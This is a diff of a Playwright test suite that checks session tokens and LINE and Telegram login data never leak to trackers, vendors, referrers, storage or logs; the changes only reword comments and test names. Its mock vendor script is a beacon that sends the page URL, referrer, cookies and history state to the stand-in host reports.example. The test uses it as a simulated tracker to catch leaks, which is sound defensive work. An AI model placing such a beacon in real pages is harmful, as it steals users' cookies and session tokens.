@@ -2,7 +2,7 @@ import type { Page, Request } from "@playwright/test";
 import { ports } from "./ports.ts";
 import { askConsole, type Brand, expect, home, logIn, newName, open, test } from "./support.ts";
 
-/** Something that was said, and where: `https://x.example/tr header referer`. */
+/** A recorded text with its source: `https://x.example/tr header referer`. */
 interface Saying {
   readonly where: string;
   readonly text: string;
@@ -10,12 +10,12 @@ interface Saying {
 
 const isOutside = (url: URL) => !url.hostname.endsWith("localhost") && url.hostname !== "127.0.0.1";
 
-/** What a vendor's script or page tells home about the page that it is on. */
+/** What a vendor's script or page reports about its page. */
 const report = `new Image().src = "https://reports.example/seen?" + new URLSearchParams({
   href: location.href, referrer: document.referrer, cookie: document.cookie, name: window.name,
   state: JSON.stringify(history.state), queue: JSON.stringify(window.fbq && window.fbq.queue) });`;
 
-/** Lets outside origins answer, with scripts and pages that report what they see. */
+/** Mocks external origins, with scripts and pages that report what they see. */
 const answerOutside = (page: Page) =>
   page.route(isOutside, (route) => {
     const type = route.request().resourceType();
@@ -28,14 +28,14 @@ const answerOutside = (page: Page) =>
     return route.fulfill({ status: 204, headers: { "Access-Control-Allow-Origin": "*" } });
   });
 
-/** Listens to all that leaves a page from now on: requests with their headers and bodies, and the browser's console. */
+/** Records all that leaves a page from now on: requests with their headers and bodies, and the browser's console. */
 function listen(page: Page) {
   const sayings: Saying[] = [];
   const reading: Promise<void>[] = [];
   const hear = async (request: Request) => {
     const url = new URL(request.url());
     const place = url.origin + url.pathname;
-    // The address that brought the secret is where it came from.
+    // The address that contained the secret is its origin.
     if (!request.isNavigationRequest() || request.frame() !== page.mainFrame()) {
       sayings.push({ where: `${place} url`, text: request.url() });
     }
@@ -55,7 +55,7 @@ function listen(page: Page) {
   };
 }
 
-/** What stays behind: address bar, history, storage, cookies, and what the gateway's log and events hold. */
+/** What remains: address bar, history, storage, cookies, and the gateway's log and events. */
 async function remains(page: Page, brand: Brand, since: string): Promise<readonly Saying[]> {
   const devtools = await page.context().newCDPSession(page);
   const { entries } = await devtools.send("Page.getNavigationHistory");
@@ -85,7 +85,7 @@ async function remains(page: Page, brand: Brand, since: string): Promise<readonl
   ];
 }
 
-/** Where a secret stands; once in its own form and once as an address or JSON would write it. */
+/** Finds a secret in recorded texts, also URL- or JSON-encoded. */
 const placesOf = (secret: string, sayings: readonly Saying[]) => [
   ...new Set(
     sayings
@@ -98,15 +98,15 @@ const placesOf = (secret: string, sayings: readonly Saying[]) => [
 
 const own = (brand: Brand) => `http://${brand}.localhost:${ports.site}`;
 
-/** Where a session's token belongs. */
+/** Where a session's token may be. */
 const isTokensPlace = (brand: Brand) => (where: string) =>
   where === "sessionStorage MC_SESSION_INFO" ||
   (where.startsWith(`${own(brand)}/wps/`) && where.endsWith(" header authorization")) ||
   (where.startsWith("gateway /wps/") && where.endsWith(" header authorization"));
 
 /**
- * The page's own files are asked for before any script can clean the address: the server that was asked for the page
- * reads the address once more.
+ * The page's own files are requested before any script can clean the address: the server that served the page receives
+ * the address once more.
  */
 const isOwnFile = (brand: Brand) => (where: string) =>
   where.startsWith(`${own(brand)}/m/`) && where.endsWith(" header referer");
@@ -114,7 +114,7 @@ const isOwnFile = (brand: Brand) => (where: string) =>
 const storedToken = (page: Page) =>
   page.evaluate((): string => JSON.parse(sessionStorage.getItem("MC_SESSION_INFO") ?? "{}").token ?? "");
 
-/** Asks for consent, in this page alone: journeys run beside it. */
+/** Requires consent, for this page only: other tests run at the same time. */
 const askForConsent = (page: Page) =>
   page.route("**/wps/system/consent", async (route) => {
     const url = new URL(route.request().url());
@@ -155,7 +155,7 @@ test("a token in the address reaches no tracker, no vendor, no game, no referrer
   await expect(site).toHaveURL(/\/m\/member\/home\?fbclid=abc&from=app$/);
   expect(await storedToken(site)).toBe(token);
 
-  // Around the site: a vendor's chat, a game on an origin of its own, a error that is reported.
+  // Around the site: a vendor's chat, a game on its own origin, an error that is reported.
   const reports = () => heard.sayings.filter(({ where }) => where === "https://reports.example/seen url").length;
   const before = reports();
   await site.getByRole("main").getByRole("button", { name: "Customer service" }).click();
@@ -177,7 +177,7 @@ test("a token in the address reaches no tracker, no vendor, no game, no referrer
   expect(places.some(isTokensPlace("manila"))).toBe(true);
   expect(places.filter((where) => !isTokensPlace("manila")(where) && !isOwnFile("manila")(where))).toEqual([]);
 
-  // This listens well: a leak of every kind is heard.
+  // A check of the recorder: a leak of every kind is recorded.
   await site.evaluate((secret) => {
     console.info(secret);
     localStorage.setItem("leak", secret);
@@ -197,7 +197,7 @@ test("a token in the address reaches no tracker, no vendor, no game, no referrer
   await expect.poll(leaks).toEqual(expect.arrayContaining(expected));
 });
 
-test("LINE's code and state are spent by the gateway's one call, and stand nowhere else", async ({ site }) => {
+test("LINE's code and state are used in the gateway's one call, and appear nowhere else", async ({ site }) => {
   await answerOutside(site);
   await open(site, home("lotus", "/m/login"));
   await site.getByRole("button", { name: "Continue with LINE" }).click();
@@ -219,7 +219,7 @@ test("LINE's code and state are spent by the gateway's one call, and stand nowhe
   await heard.settled();
   const vendor = "access.line.me";
   const everything = [...heard.sayings, ...(await remains(site, "lotus", since))].filter(
-    // LINE made the code, and was told the state; its page lies behind in the history.
+    // LINE issued the code, and received the state; its page is in the history.
     ({ where, text }) => !where.includes(vendor) && !(where === "history" && new URL(text).host.includes(vendor)),
   );
   const spent = (path: string) => [`${own("lotus")}${path} body`, `gateway ${path} log`];
@@ -234,9 +234,9 @@ test("LINE's code and state are spent by the gateway's one call, and stand nowhe
   );
 });
 
-test("Telegram's answer is spent by the gateway's one call, and stands nowhere else", async ({ site }) => {
+test("Telegram's answer is used in the gateway's one call, and appears nowhere else", async ({ site }) => {
   await answerOutside(site);
-  // The address at the moment of the call, before the log-in leads elsewhere: it stands among what is looked through.
+  // The address at the moment of the call, before the log-in redirects: it is among the recorded texts.
   await site.addInitScript(() => {
     const { fetch } = window;
     window.fetch = (address, options) => {
